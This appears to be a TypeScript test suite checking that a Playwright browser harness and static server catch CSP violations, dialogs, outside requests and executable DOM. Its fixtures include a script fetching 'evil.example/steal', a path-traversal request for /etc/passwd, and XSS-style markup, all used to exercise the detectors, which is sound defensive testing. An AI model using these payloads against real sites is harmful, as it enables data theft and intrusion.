/**
 * The browser harness itself, on a tiny hand-written site: the server serves the right types and 404s, and each
 * detector the site tests rely on (console/CSP errors, dialogs, outside requests) really fires. Without this, a
 * site test could pass because a detector is deaf.
 */
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "./chromium.js";
import { executableInDom } from "./dom-probe.js";
import { fenceContext, forbiddenRequests, isBlockedLoadMessage, watchPage } from "./page-watch.js";
import { startStaticServer, type StaticServer } from "./static-server.js";

const CSP = "default-src 'none'; img-src 'self' https: http:; style-src 'self'; script-src 'self'; " +
  "connect-src 'self'; base-uri 'none'; form-action 'none'";

function page(title: string, body: string, head = "", root = ""): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">` +
    `<meta http-equiv="Content-Security-Policy" content="${CSP}"><title>${title}</title>` +
    `<link rel="icon" href="${root}assets/icon.png">${head}</head>` +
    `<body><main><h1>${title}</h1>${body}</main></body></html>`;
}

let dir: string;
let browser: Browser;
let server: StaticServer;

beforeAll(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "ap-browser-harness-"));
  await fs.mkdir(path.join(dir, "assets"));
  await fs.mkdir(path.join(dir, "keys", "alpha"), { recursive: true });
  const files: Record<string, string> = {
    "index.html": page("Home", `<a href="keys/alpha/index.html">alpha</a>`, `<link rel="stylesheet" href="assets/site.css">`),
    "keys/alpha/index.html": page("alpha", `<a href="../../index.html">Home</a>`, "", "../../"),
    "inline.html": page("Inline", `<script>alert(1)</script>`),
    "dialog.html": page("Dialog", "", `<script src="assets/dialog.js"></script>`),
    "fetch.html": page("Fetch", `<img src="https://images.example/x.png" alt="x">`, `<script src="assets/fetch.js"></script>`),
    "404.html": page("Not found", ""),
    "dirty.html": page("Dirty", `<img src="x" onerror="x()"><a href=" JavaScript:void(0)">a</a><iframe></iframe>` +
      `<svg><animate attributeName="href" values="x"/></svg><input type="checkbox">`, `<script>var x = 1;</script>`),
    "assets/site.css": "h1 { color: rgb(1, 2, 3); }",
    "assets/icon.png": "",
    "assets/dialog.js": "alert(1);",
    "assets/fetch.js": `fetch("https://evil.example/steal").catch(() => {});`,
  };
  for (const [name, text] of Object.entries(files)) await fs.writeFile(path.join(dir, name), text);
  browser = await launchChromium();
  server = await startStaticServer(dir);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (dir) await fs.rm(dir, { recursive: true, force: true });
});

describe("static server", () => {
  it("serves files with their content type, folders by index.html, and 404 with the site's page", async () => {
    const css = await fetch(`${server.url}assets/site.css`);
    expect(css.status).toBe(200);
    expect(css.headers.get("content-type")).toBe("text/css; charset=utf-8");
    const html = await fetch(`${server.url}keys/alpha/`);
    expect(html.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(await html.text()).toContain("<h1>alpha</h1>");
    const missing = await fetch(`${server.url}nope.html`);
    expect(missing.status).toBe(404);
    expect(await missing.text()).toContain("Not found");
    const escape = await fetch(`${server.url}..%2f..%2fetc%2fpasswd`);
    expect(escape.status).toBe(404);
  });
});

describe("detectors", () => {
  it("follows links from file:// and over http, and the CSP still lets the site's own stylesheet apply", async () => {
    for (const start of [pathToFileURL(path.join(dir, "index.html")).href, `${server.url}index.html`]) {
      const context = await browser.newContext();
      const p = await context.newPage();
      const watch = watchPage(p);
      await p.goto(start);
      expect(await p.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe("rgb(1, 2, 3)");
      await p.getByRole("link", { name: "alpha" }).click();
      await expect.poll(() => p.url()).toMatch(/\/keys\/alpha\/index\.html$/);
      await expect(p.getByRole("heading", { level: 1 }).textContent()).resolves.toBe("alpha");
      expect(watch).toEqual({ consoleErrors: [], pageErrors: [], dialogs: [] });
      await context.close();
    }
  });

  it("sees a CSP violation as a console error", async () => {
    const context = await browser.newContext();
    const p = await context.newPage();
    const watch = watchPage(p);
    await p.goto(`${server.url}inline.html`);
    await expect.poll(() => watch.consoleErrors.join("\n")).toMatch(/Content Security Policy/);
    expect(watch.dialogs).toEqual([]);
    await context.close();
  });

  it("sees a dialog, and sees it even where the CSP is bypassed for an inline script", async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const p = await context.newPage();
    const watch = watchPage(p);
    await p.goto(`${server.url}dialog.html`);
    await expect.poll(() => watch.dialogs.length).toBe(1);
    await p.goto(`${server.url}inline.html`);
    await expect.poll(() => watch.dialogs.length).toBe(2);
    await context.close();
  });

  it("records and aborts outside requests; an outside image is allowed, a script's fetch is not", async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const outside = await fenceContext(context);
    const p = await context.newPage();
    const watch = watchPage(p);
    await p.goto(`${server.url}fetch.html`);
    await expect.poll(() => outside.length).toBe(2);
    expect(forbiddenRequests(outside).map((r) => r.url)).toEqual(["https://evil.example/steal"]);
    expect(outside.map((r) => r.resourceType).sort()).toEqual(["fetch", "image"]);
    expect(watch.consoleErrors.filter((m) => !isBlockedLoadMessage(m))).toEqual([]);
    await context.close();
  });

  it("finds what could execute in the live DOM, and nothing on a clean page", async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const p = await context.newPage();
    await p.goto(`${server.url}dirty.html`);
    const found = await executableInDom(p);
    for (const what of ["event handler onerror", "script URL in href", "forbidden element: <iframe", "element animate",
      "input that is not a disabled checkbox", "script that is not a site asset"]) {
      expect(found.join("\n")).toContain(what);
    }
    await p.goto(`${server.url}index.html`);
    expect(await executableInDom(p)).toEqual([]);
    await context.close();
  });
});
